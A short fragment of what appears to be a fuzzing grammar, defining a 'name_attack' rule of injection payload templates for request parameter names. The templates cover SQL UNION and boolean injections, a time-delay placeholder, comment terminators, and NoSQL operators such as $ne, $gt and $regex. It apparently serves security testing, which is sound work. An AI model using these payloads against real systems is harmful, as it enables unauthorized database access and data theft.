name_attack := «word»[«d» «union»«end»] ¦ «word»` «logic» «wait_my»# ¦ «word»[$ne] ¦ «word»[$gt] ¦ «word»[$regex]
  ¦ filter[«column»` or «wait_my» #] ¦ «word»' «logic» «truth» ¦ «word»[0) or «wait_my»;# ]
"""  # noqa: E501
